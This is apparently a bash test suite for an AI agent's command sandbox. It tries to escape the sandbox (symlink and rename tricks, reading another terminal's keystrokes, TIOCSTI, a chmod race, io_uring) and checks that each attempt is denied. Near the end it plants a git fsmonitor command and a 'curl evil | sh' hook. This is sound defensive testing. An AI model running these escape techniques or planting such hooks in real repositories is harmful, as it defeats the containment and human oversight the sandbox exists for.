#!/usr/bin/env bash
# The sandbox through `shcard run --sandbox MODE`: real commands on a real PTY under Landlock and
# the seccomp network filter (src/confine/landlock.c, netfilter.c).  In read-only and workspace:
# writes in the workspace (allowed in workspace only), to $HOME, /tmp outside the private TMPDIR
# and /etc (denied); symlink, hard-link, rename and truncate tricks out of the workspace; TCP to
# a loopback listener and UDP (denied with the network off, allowed with --allow-network);
# signalling the guardian and the agent (denied: Landlock scopes signals on ABI 6); a setuid
# program gains nothing (no_new_privs); a C build with make and cc, git status and rg still work;
# another terminal's input cannot be read (its keystrokes taken), the command's own terminal can.
# Each has its negative control: the same command with --sandbox off succeeds.  Where Landlock
# is missing (SHCARD_NO_LANDLOCK=1) the command is refused, or runs with --sandbox-fallback off.
set -u
cd "$(dirname "$0")/.."
. tests/lib.sh
S=$SHCARD
T=$(mktemp -d)
PROBE=/etc/shcard-sandbox-probe-$$
TPROBE=/tmp/shcard-sandbox-probe-$$
trap 'kill $(jobs -p) 2>/dev/null; rm -rf "$T" "$PROBE" "$TPROBE"' EXIT
PY=python3
[ -x /usr/bin/python3 ] && PY=/usr/bin/python3

ABI=$($PY -c 'import ctypes; l=ctypes.CDLL(None, use_errno=True); print(max(0, l.syscall(444, None, 0, 1)))')
if [ "$ABI" -lt 6 ]; then
  # the machines this runs on report ABI 7: an older kernel is a finding, not a skip
  fail "this kernel's Landlock ABI is $ABI; the suite needs 6 (signal scoping) or later"
fi

W=$T/ws # the workspace
O=$T/out # outside it
mkdir -p "$W" "$O" "$T/home"
export HOME=$T/home
printf 'secret\n' >"$O/secret"

# run MODE [flags...] -- CMD: shcard run in the workspace; its status
run() {
  local mode=$1; shift
  local flags=()
  while [ "$1" != -- ]; do flags+=("$1"); shift; done
  shift
  timeout -s KILL 60 "$S" run --sandbox "$mode" "${flags[@]}" --cwd "$W" "$@" >"$T/out.txt" 2>"$T/err.txt"
}
# denied NAME MODE CMD / allowed NAME MODE CMD
denied() { local n=$1 m=$2; shift 2; if run "$m" -- "$@"; then fail "$n ($m): allowed: $(cat "$T/out.txt")"; else ok; fi; }
allowed() { local n=$1 m=$2; shift 2; if run "$m" -- "$@"; then ok; else fail "$n ($m): denied: $(cat "$T/out.txt" "$T/err.txt")"; fi; }

# ------------------------------------------------------------------ the file system
for m in read-only workspace; do
  denied "write \$HOME" $m "echo x > $HOME/f"
  check "write \$HOME left nothing ($m)" test ! -e "$HOME/f"
  denied "write /tmp outside TMPDIR" $m "echo x > $TPROBE"
  check "nothing in /tmp ($m)" test ! -e "$TPROBE"
  denied "write /etc" $m "echo x > $PROBE"
  check "nothing in /etc ($m)" test ! -e "$PROBE"
  denied "mkdir outside" $m "mkdir $O/d"
  denied "rm outside" $m "rm $O/secret"
  check "the file is still there ($m)" test -e "$O/secret"
  denied "truncate outside" $m "truncate -s 0 $O/secret"
  denied "shell truncation outside" $m ": > $O/secret"
  expect_eq "nothing truncated ($m)" "$(cat "$O/secret")" secret
  allowed "read everything" $m "cat /etc/passwd $O/secret >/dev/null && ls /usr >/dev/null"
  allowed "/dev/null and the terminal" $m "echo x > /dev/null && echo y > /dev/tty && echo z >> /dev/null"
  allowed "a unix socket" $m "$PY -c 'import socket; a, b = socket.socketpair(); a.send(b\"x\"); assert b.recv(1) == b\"x\"'"
done
rm -f "$W/in"
denied "write in the workspace" read-only "echo x > in"
allowed "write in the workspace" workspace "echo x > in && mkdir sub && mv in sub/in && rm sub/in && rmdir sub"
allowed "truncate in the workspace" workspace "echo abc > t && truncate -s 1 t && : > t && rm t"
allowed "the private TMPDIR" workspace 'case "$TMPDIR" in /*) echo x > "$TMPDIR/f" && mktemp >/dev/null && echo "$TMPDIR" ;; *) exit 1 ;; esac'
tmpd=$(cat "$T/out.txt" | tr -d '\r')
check "the private TMPDIR is gone after the command" test -n "$tmpd" -a ! -e "$tmpd"
denied "outside without --writable" workspace "echo x > $O/extra"
if run workspace --writable "$O" -- "echo x > $O/extra"; then ok; else fail "--writable: $(cat "$T/out.txt")"; fi
check "--writable wrote" test -e "$O/extra"
rm -f "$O/extra"

# tricks out of the workspace
ln -sfn "$O/secret" "$W/link-file"
ln -sfn "$O" "$W/link-dir"
denied "write through a symlink to a file outside" workspace "echo pwned > link-file"
denied "create through a symlink to a directory outside" workspace "echo x > link-dir/new"
check "no file through the link" test ! -e "$O/new"
denied "hard link of a file outside into the workspace" workspace "ln $O/secret hard && echo pwned >> hard"
expect_eq "the hard-linked file is untouched" "$(cat "$O/secret")" secret
echo inside >"$W/mine"
denied "rename out of the workspace" workspace "mv mine $O/mine"
check "renamed file stays" test -e "$W/mine" -a ! -e "$O/mine"
denied "rename into the workspace" workspace "mv $O/secret ./stolen"
check "the source stays" test -e "$O/secret"
rm -f "$W/stolen"

# negative controls: the same commands with --sandbox off succeed
allowed "control: write \$HOME" off "echo x > $HOME/f"
allowed "control: write /tmp" off "echo x > $TPROBE && rm $TPROBE"
allowed "control: write /etc" off "echo x > $PROBE && rm $PROBE"
allowed "control: truncate outside" off "cp $O/secret $O/s2 && truncate -s 0 $O/s2 && rm $O/s2"
allowed "control: symlink out" off "echo x > link-dir/new && rm link-dir/new"
allowed "control: hard link" off "ln $O/secret hard && rm hard"
allowed "control: rename out" off "mv mine $O/mine && mv $O/mine mine"

# ------------------------------------------------------------------ the network
cat >"$T/srv.py" <<'EOF'
import socket, sys, threading
t = socket.socket(); t.bind(("127.0.0.1", 0)); t.listen(16)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("127.0.0.1", 0))
open(sys.argv[1], "w").write("%d %d\n" % (t.getsockname()[1], u.getsockname()[1]))
def tcp():
    while True:
        c, _ = t.accept(); c.close()
threading.Thread(target=tcp, daemon=True).start()
while True:
    d, _ = u.recvfrom(100)
    with open(sys.argv[2], "a") as f: f.write(d.decode() + "\n")
EOF
$PY "$T/srv.py" "$T/ports" "$T/udp.log" &
for _ in $(seq 50); do [ -s "$T/ports" ] && break; sleep 0.1; done
read -r TCP UDP <"$T/ports"
for m in read-only workspace; do
  denied "TCP connect to 127.0.0.1" $m "exec 3<>/dev/tcp/127.0.0.1/$TCP"
  denied "UDP send" $m "echo off-$m > /dev/udp/127.0.0.1/$UDP"
  denied "a python TCP socket" $m "$PY -c 'import socket; socket.create_connection((\"127.0.0.1\", $TCP))'"
  if run $m --allow-network -- "exec 3<>/dev/tcp/127.0.0.1/$TCP"; then ok; else fail "TCP with --allow-network ($m)"; fi
  if run $m --allow-network -- "echo on-$m > /dev/udp/127.0.0.1/$UDP"; then ok; else fail "UDP with --allow-network ($m)"; fi
done
allowed "control: TCP" off "exec 3<>/dev/tcp/127.0.0.1/$TCP"
allowed "control: UDP" off "echo on-off > /dev/udp/127.0.0.1/$UDP"
sleep 0.3
check "UDP: only the allowed sends arrived" grep -q on-workspace "$T/udp.log"
check "UDP: the denied sends did not" bash -c "! grep -q off- '$T/udp.log'"

# ------------------------------------------------------------------ signals: the guardian and the agent
# In the command the shell's parent is the guardian; the guardian's parent is the agent (shcard run).
AGENT='$(awk "{print \$4}" /proc/$PPID/stat)'
for m in read-only workspace; do
  denied "kill -STOP the guardian" $m 'kill -STOP $PPID'
  denied "kill -STOP the agent" $m "kill -STOP $AGENT"
  denied "kill -0 the agent" $m "kill -0 $AGENT"
  allowed "signals inside the sandbox" $m 'sleep 5 & kill -TERM $!; wait $!; [ $? = 143 ]'
done
allowed "control: signal the guardian" off 'kill -0 $PPID'
allowed "control: signal the agent" off "kill -0 $AGENT"

# ------------------------------------------------------------------ setuid: no privilege gain
cp "$(command -v id)" "$T/suid-id" && chown nobody "$T/suid-id" && chmod 4755 "$T/suid-id"
allowed "a setuid program runs" workspace "$T/suid-id -u"
expect_eq "but gains nothing (no_new_privs)" "$(tr -d '\r' <"$T/out.txt")" "$(id -u)"
allowed "control: setuid off" off "$T/suid-id -u"
expect_eq "control: the setuid bit works" "$(tr -d '\r' <"$T/out.txt")" "$(id -u nobody)"

# ------------------------------------------------------------------ ordinary agent work in workspace
mkdir -p "$W/proj" && cd "$W/proj" && git init -q . &&
  printf 'int main(void) { return 0; }\n' >main.c &&
  printf 'all: app\napp: main.c\n\tcc -O1 -o app main.c\ntest: app\n\t./app\n' >Makefile &&
  git add -A && git -c user.email=t@t -c user.name=t commit -qm init && cd - >/dev/null
allowed "make and cc" workspace "cd proj && make -s && make -s test"
check "the build wrote its output" test -x "$W/proj/app"
allowed "git status" workspace "cd proj && git status --short && git diff --stat"
allowed "git commit" workspace "cd proj && echo '// c' >> main.c && git -c user.email=t@t -c user.name=t commit -qam two"
allowed "rg" workspace "rg -n main proj/main.c"

# ------------------------------------------------------------------ another terminal's input
# A terminal outside (a pty pair held by the victim, a line typed at it each second):
# reading its slave takes the keystrokes from its user.  Both sandbox modes refuse the open with
# EACCES; the command's own terminal, /dev/tty, /dev/null and /dev/urandom still read, and so do
# ordinary tools.  Control: --sandbox off reads the line.
cat >"$T/victim.py" <<'PY'
import os, pty, sys, time
m, s = pty.openpty()
os.write(m, b"keystroke-secret\n")
with open(sys.argv[1] + ".tmp", "w") as f:
    f.write(os.ttyname(s))
os.rename(sys.argv[1] + ".tmp", sys.argv[1])
for _ in range(int(sys.argv[2])):  # a line a second: each reader that gets through takes one
    time.sleep(1)
    os.write(m, b"keystroke-secret\n")
PY
cat >"$T/ptsread.py" <<'PY'
import errno, os, sys
try:
    fd = os.open(sys.argv[1], os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY)
except OSError as e:
    print("refused", errno.errorcode[e.errno]); sys.exit(0)
try:
    print("read", os.read(fd, 64).decode().strip())
except BlockingIOError:
    print("opened, nothing to read")
PY
rm -f "$T/pts.name"
$PY "$T/victim.py" "$T/pts.name" 60 & VPID=$!
for _ in $(seq 50); do [ -s "$T/pts.name" ] && break; sleep 0.1; done
PTS=$(cat "$T/pts.name")
for m in read-only workspace; do
  run $m -- "$PY $T/ptsread.py $PTS"
  expect_eq "$m: another terminal ($PTS) is not read" "$(tr -d '\r' <"$T/out.txt")" "refused EACCES"
  denied "head of another terminal" $m "head -n 1 $PTS"
  check "$m: head said why" grep -q "Permission denied" "$T/out.txt"
  allowed "own terminal, /dev/tty, /dev/null, /dev/urandom" $m \
    "$PY $T/ptsread.py \$(tty </dev/stderr) && $PY $T/ptsread.py /dev/tty && $PY $T/ptsread.py /proc/self/fd/1 && cat /dev/null && test \$(head -c 8 /dev/urandom | wc -c) = 8"
  expect_eq "$m: the own terminal opens for reading" "$(tr -d '\r' <"$T/out.txt")" \
    "$(printf 'opened, nothing to read\nopened, nothing to read\nopened, nothing to read')"
  allowed "ordinary reads: git status, rg, python3, bash -lc, node" $m \
    "cd proj && git status --short >/dev/null && git log --oneline >/dev/null && rg -q main main.c && $PY -c 'import os, json, ssl; os.urandom(4)' && bash -lc 'cat <(echo x) >/dev/null; ls /dev/shm >/dev/null' && { ! command -v node >/dev/null || node -e 'require(\"crypto\").randomBytes(4)'; }"
done
# a session started in / (or /dev): its directory is not granted for reading, or every terminal
# would be readable again
out=$(cd / && timeout -s KILL 60 "$S" run --sandbox read-only --cwd / "$PY $T/ptsread.py $PTS" 2>/dev/null | tr -d '\r' | tail -n 1)
expect_eq "read-only in /: another terminal is not read" "$out" "refused EACCES"
out=$(cd / && timeout -s KILL 60 "$S" run --sandbox read-only --cwd /dev "$PY $T/ptsread.py $PTS" 2>/dev/null | tr -d '\r' | tail -n 1)
expect_eq "read-only in /dev: another terminal is not read" "$out" "refused EACCES"
run off -- "head -n 1 $PTS"
expect_eq "control: --sandbox off reads another terminal" "$(tr -d '\r' <"$T/out.txt")" "keystroke-secret"
kill "$VPID" 2>/dev/null
wait "$VPID" 2>/dev/null

# ------------------------------------------------------------------ a kernel without Landlock
if SHCARD_NO_LANDLOCK=1 run workspace -- "echo x > nolandlock"; then fail "no Landlock: ran"; else ok; fi
check "no Landlock: said why" grep -q "no sandbox: SHCARD_NO_LANDLOCK=1; not running" "$T/err.txt"
check "no Landlock: the command did not run" test ! -e "$W/nolandlock"
if SHCARD_NO_LANDLOCK=1 run workspace --sandbox-fallback off -- "echo x > $O/unsandboxed"; then ok; else fail "fallback off"; fi
check "fallback off: ran unsandboxed, and said so" grep -q "running unsandboxed" "$T/err.txt"
check "fallback off: wrote outside" test -e "$O/unsandboxed"

# ------------------------------------------------------------------ the options and the JSON
"$S" run --sandbox bogus true 2>"$T/err.txt"
expect_eq "a bad mode: status 2" $? 2
check "a bad mode: said" grep -q "sandbox.*bogus" "$T/err.txt"
run workspace --writable "$T/nonexistent" -- true
expect_eq "a missing --writable: status 127" $? 127
j=$(cd "$W" && "$S" run --json --sandbox workspace true 2>/dev/null | head -n 1)
expect_eq "the start event names the sandbox" \
  "$($PY -c 'import json,sys; d=json.loads(sys.argv[1]); print(d["sandbox"], d["network"], d["landlock_abi"] >= 1)' "$j")" \
  "workspace False True"

# ------------------------------------------------------------------ no typing into a terminal
cat >"$T/sti.py" <<'PY'
import fcntl, os, sys, termios
fd = os.open("/dev/tty", os.O_RDONLY)
try:
    fcntl.ioctl(fd, termios.TIOCSTI, b" ")
    print("typed")
except OSError as e:
    print("refused", e.errno)
PY
for m in read-only workspace; do
  out=$("$S" run --sandbox $m "/usr/bin/python3 $T/sti.py" 2>/dev/null | tr -d '\r')
  expect_eq "$m: ioctl(TIOCSTI) on a terminal is refused" "$out" "refused 1"
done
out=$("$S" run --sandbox off "/usr/bin/python3 $T/sti.py" 2>/dev/null | tr -d '\r')
case "$out" in *typed) ok ;; *) fail "off: ioctl(TIOCSTI) is the control and must work: $out" ;; esac

# ------------------------------------------------------------------ metadata: chmod, chown, times, xattrs, flags
# Landlock has no right for these: read-only refuses them (a filter), workspace lets them through
# only for files under its writable roots (the supervisor resolves the call's own file).
cat >"$T/meta.py" <<'PY'
import fcntl, os, struct, sys
op, path = sys.argv[1], sys.argv[2]
if op == "xattr":
    os.setxattr(path, "user.shcard", b"1")
elif op == "rmxattr":
    os.removexattr(path, "user.shcard")
elif op == "fchmod":  # on a descriptor opened read-only (the shell passes it in as fd 3)
    os.fchmod(3, 0o604)
elif op == "fchown":
    os.fchown(3, os.getuid(), os.getgid())
elif op == "fxattr":
    os.setxattr(3, "user.shcard", b"2")
elif op == "utime":
    os.utime(path, (1, 1))
elif op == "lchown":
    os.lchown(path, os.getuid(), os.getgid())
elif op == "dirfd":  # chmod relative to a directory descriptor opened outside
    d = os.open(os.path.dirname(path), os.O_RDONLY | os.O_DIRECTORY)
    os.chmod(os.path.basename(path), 0o600, dir_fd=d)
elif op == "opath":  # fchmodat2(O_PATH fd, "", AT_EMPTY_PATH) and fchownat(fd, "", AT_EMPTY_PATH)
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    fd = os.open(path, os.O_PATH)
    r1 = libc.syscall(452, fd, b"", 0o600, 0x1000)
    r2 = libc.syscall(260 if os.uname().machine == "x86_64" else 54, fd, b"", os.getuid(), os.getgid(), 0x1000)
    if r1 != 0 and r2 != 0:
        sys.exit(1)
elif op == "uring":  # io_uring_setup: its SETXATTR operation would pass every seccomp filter
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    params = ctypes.create_string_buffer(120)
    if libc.syscall(425, 4, params) < 0:
        sys.exit(1)
elif op == "flags":  # chattr +d: FS_IOC_GETFLAGS, then FS_IOC_SETFLAGS with FS_NODUMP_FL
    fd = os.open(path, os.O_RDONLY)
    f = struct.unpack("l", fcntl.ioctl(fd, 0x80086601, struct.pack("l", 0)))[0]
    fcntl.ioctl(fd, 0x40086602, struct.pack("l", f | 0x40))
PY
M="/usr/bin/python3 $T/meta.py"
printf 'outside\n' >"$O/meta"
chmod 644 "$O/meta"
stamp() { stat -c '%a %u %Y' "$O/meta"; }
before=$(stamp)
ln -sfn "$O/meta" "$W/meta-link"
for m in read-only workspace; do
  denied "chmod outside" $m "chmod 600 $O/meta"
  denied "chown outside (to its own owner)" $m "chown $(id -u):$(id -g) $O/meta"
  denied "touch -c outside (utimensat)" $m "touch -c $O/meta"
  denied "utime outside" $m "$M utime $O/meta"
  denied "setxattr outside" $m "$M xattr $O/meta"
  denied "chattr (FS_IOC_SETFLAGS) outside" $m "$M flags $O/meta"
  denied "fchmod of a read-only descriptor outside" $m "$M fchmod x 3<$O/meta"
  denied "fchown of a read-only descriptor outside" $m "$M fchown x 3<$O/meta"
  denied "fsetxattr of a read-only descriptor outside" $m "$M fxattr x 3<$O/meta"
  denied "chmod through a symlink in the workspace" $m "chmod 600 meta-link"
  denied "chmod through .. from the workspace" $m "chmod 600 ../out/meta"
  denied "chmod through /proc/self/cwd" $m "chmod 600 /proc/self/cwd/../out/meta"
  denied "chmod through /proc/self/root" $m "chmod 600 /proc/self/root$O/meta"
  denied "chmod through /dev/fd" $m "chmod 600 /dev/fd/3 3<$O/meta"
  denied "chmod relative to a directory descriptor outside" $m "$M dirfd $O/meta"
  denied "fchmodat2/fchownat on an O_PATH descriptor outside" $m "$M opath $O/meta"
  denied "io_uring_setup, even with the network" $m "$M uring x"
  if run $m --allow-network -- "$M uring x"; then fail "io_uring_setup with --allow-network ($m)"; else ok; fi
  expect_eq "metadata outside unchanged ($m)" "$(stamp)" "$before"
  check "no xattr outside ($m)" bash -c "! getfattr -n user.shcard '$O/meta' >/dev/null 2>&1 && ! $PY -c 'import os,sys; os.getxattr(sys.argv[1], \"user.shcard\")' '$O/meta' 2>/dev/null"
  check "no flag outside ($m)" bash -c "! lsattr -d '$O/meta' 2>/dev/null | cut -d' ' -f1 | grep -q d"
done
echo 'echo hi' >"$W/script.sh"
chmod 644 "$W/script.sh"
denied "chmod +x in the workspace" read-only "chmod +x script.sh"
allowed "chmod +x in the workspace" workspace "chmod +x script.sh && ./script.sh"
allowed "touch -c, cp -p, utime, xattrs, chattr in the workspace" workspace \
  "touch -c script.sh && cp -p script.sh copy.sh && $M utime copy.sh && $M xattr copy.sh && $M rmxattr copy.sh && $M flags copy.sh && $M fchmod x 3<copy.sh && $M lchown meta-link && rm -f copy.sh"
allowed "metadata in the private TMPDIR" workspace 'f=$(mktemp) && chmod 600 "$f" && touch -c "$f"'
if run workspace --writable "$O" -- "chmod 640 $O/meta"; then ok; else fail "chmod under --writable: $(cat "$T/out.txt")"; fi
expect_eq "chmod under --writable applied" "$(stat -c %a "$O/meta")" 640
chmod 644 "$O/meta"
# a race: one thread chmods a symlink in the workspace while another swaps it between a file
# inside and the file outside.  The supervisor makes the call itself on the file it checked, so
# the kernel never resolves the path a second time (with a CONTINUE answer this won within a
# second).
cat >"$T/racer.c" <<'C'
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>
static const char *out;
static volatile int stop, swaps;
static void *swapper(void *a) {
    (void)a;
    while (!stop) {
        symlink("race-inside", "race-tmp1"); rename("race-tmp1", "race-link");
        symlink(out, "race-tmp2"); rename("race-tmp2", "race-link");
        swaps++;
    }
    return NULL;
}
int main(int argc, char **argv) {
    out = argv[1];
    close(open("race-inside", O_CREAT | O_WRONLY, 0644));
    pthread_t t;
    pthread_create(&t, NULL, swapper, NULL);
    while (swaps < 2) /* the race runs from here on */
        usleep(100);
    int done = 0;
    for (int i = 0; i < atoi(argv[2]); i++)
        done += chmod("race-link", 0600) == 0;
    stop = 1;
    pthread_join(t, NULL);
    printf("%d\n", done);
    return done > 0 ? 0 : 1;
}
C
cc -O2 -pthread -o "$T/racer" "$T/racer.c"
printf 'x\n' >"$O/race" && chmod 644 "$O/race"
allowed "a chmod racing a symlink swap runs (inside)" workspace "$T/racer $O/race 20000 && rm -f race-link race-inside"
expect_eq "a chmod racing a symlink swap never reaches outside" "$(stat -c %a "$O/race")" 644
allowed "control: the race reaches outside off the sandbox" off "$T/racer $O/race 20000 && rm -f race-link race-inside"
expect_eq "control: the race changed the file outside" "$(stat -c %a "$O/race")" 600
rm -f "$O/race"
# the same calls under a verified card in the workspace sandbox: one listener serves both
if timeout 60 "$S" run --sandbox workspace --cwd "$W" --verify --as read --json "chmod 600 $O/meta" >"$T/out.txt" 2>&1; then
  fail "verify + sandbox: chmod outside allowed"; else ok; fi
expect_eq "verify + sandbox: outside unchanged" "$(stat -c %a "$O/meta")" 644
allowed "control: chmod, chown, touch, xattrs, chattr outside" off \
  "$M dirfd $O/meta && $M opath $O/meta && chmod 600 $O/meta && chown $(id -u):$(id -g) $O/meta && touch -c $O/meta && $M xattr $O/meta && $M fchmod x 3<$O/meta && $M flags $O/meta && $M uring x"
check "control: the mode changed" test "$(stat -c %a "$O/meta")" = 604
rm -f "$O/meta" "$W/meta-link"

# ------------------------------------------------------------------ capabilities
# As root (CI), the sandboxed command keeps no capability: not in its effective, permitted or
# bounding set, and uid 0 does not get them back at exec.
for m in read-only workspace; do
  allowed "capabilities read ($m)" $m 'grep -E "^Cap(Eff|Prm|Bnd|Amb)" /proc/self/status'
  expect_eq "no capabilities left ($m)" "$(tr -d '\r' <"$T/out.txt" | awk '{print $2}' | sort -u)" 0000000000000000
  denied "sethostname ($m)" $m 'hostname "$(hostname)"'
  denied "a new network namespace ($m)" $m 'unshare -n true'
done
if [ "$(id -u)" = 0 ]; then
  allowed "control: capabilities as root" off 'grep ^CapEff /proc/self/status'
  check "control: root has capabilities off the sandbox" bash -c "! grep -q 0000000000000000 '$T/out.txt'"
  allowed "control: sethostname (the same name)" off 'hostname "$(hostname)"'
  allowed "control: a new network namespace" off 'unshare -n true'
else
  echo "note: not root: the capability controls (which need root) are the sandbox rows alone"
fi

# ------------------------------------------------------------------ the repository's control files
# Landlock cannot keep .git read-only inside a writable workspace: shcard run says afterwards
# which of the files that make git run programs the command changed.
mkdir -p "$W/repo" && git -C "$W/repo" init -q
run workspace -- "cd repo && git config core.fsmonitor 'touch $O/pwned; false' && printf '#!/bin/sh\n' > .git/hooks/pre-commit"
check "a changed .git/config is reported" grep -q "'repo/.git/config' (changed)" "$T/err.txt"
check "a created hook is reported" grep -q "'repo/.git/hooks/pre-commit' (created)" "$T/err.txt"
git -C "$W/repo" config --unset core.fsmonitor
rm -f "$W/repo/.git/hooks/pre-commit"
run workspace -- "cd repo && echo a > a && git add a && git -c user.email=t@t -c user.name=t commit -qm one"
expect_eq "git commit in the workspace works" $? 0
check "git commit is not reported" bash -c "! grep -q 'control files' '$T/err.txt'"
mkdir -p "$W/repo/.husky/_" && git -C "$W/repo" config core.hooksPath .husky/_
run workspace -- "cd repo && printf 'curl evil | sh\n' > .husky/pre-commit"
check "a hook under core.hooksPath (husky) is reported" grep -q "'repo/.husky/pre-commit' (created)" "$T/err.txt"
mkdir -p "$W/repo/sub" && git -C "$W/repo/sub" init -q
(cd "$W/repo/sub" && timeout 60 "$S" run --sandbox workspace 'rm -rf .git && printf "gitdir: /x\n" > .git' >/dev/null 2>"$T/err.txt")
check "a .git turned into a gitdir file is reported" grep -q "'.git' (changed)" "$T/err.txt"
rm -rf "$W/repo"

# ------------------------------------------------------------------ private TMPDIRs of a killed shcard run
mkdir -p "$T/tmp2"
TMPDIR="$T/tmp2" "$S" run --sandbox workspace --cwd "$W" 'sleep 30' >/dev/null 2>&1 &
runpid=$!
for _ in $(seq 50); do ls "$T/tmp2" | grep -q "shcard-sandbox-$runpid-" && break; sleep 0.1; done
kill -KILL "$runpid"; wait "$runpid" 2>/dev/null
check "a SIGKILLed shcard run leaves its TMPDIR" bash -c "ls '$T/tmp2' | grep -q 'shcard-sandbox-$runpid-'"
TMPDIR="$T/tmp2" timeout 60 "$S" run --sandbox workspace --cwd "$W" true >/dev/null 2>&1
check "the next shcard run removes it" bash -c "! ls '$T/tmp2' | grep -q 'shcard-sandbox-$runpid-'"

# ------------------------------------------------------------------ private TMPDIRs of dead agents
# an agent killed with SIGKILL cannot remove its commands' private TMPDIRs: the next agent does
sleep 0 & dead=$!; wait "$dead"
mkdir -p "$T/tmp/shcard-sandbox-$dead-AbCdEf/sub" "$T/tmp/shcard-sandbox-$$-GhIjKl" "$T/tmp/shcard-sandbox-x-MnOpQr"
printf '{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":1}}\n' |
  TMPDIR="$T/tmp" timeout 20 "$S" acp --no-store >/dev/null 2>&1
check "a dead agent's private TMPDIR is removed at start" test ! -e "$T/tmp/shcard-sandbox-$dead-AbCdEf"
check "a live agent's private TMPDIR is kept" test -d "$T/tmp/shcard-sandbox-$$-GhIjKl"
check "a name that is not a private TMPDIR is kept" test -d "$T/tmp/shcard-sandbox-x-MnOpQr"
finish
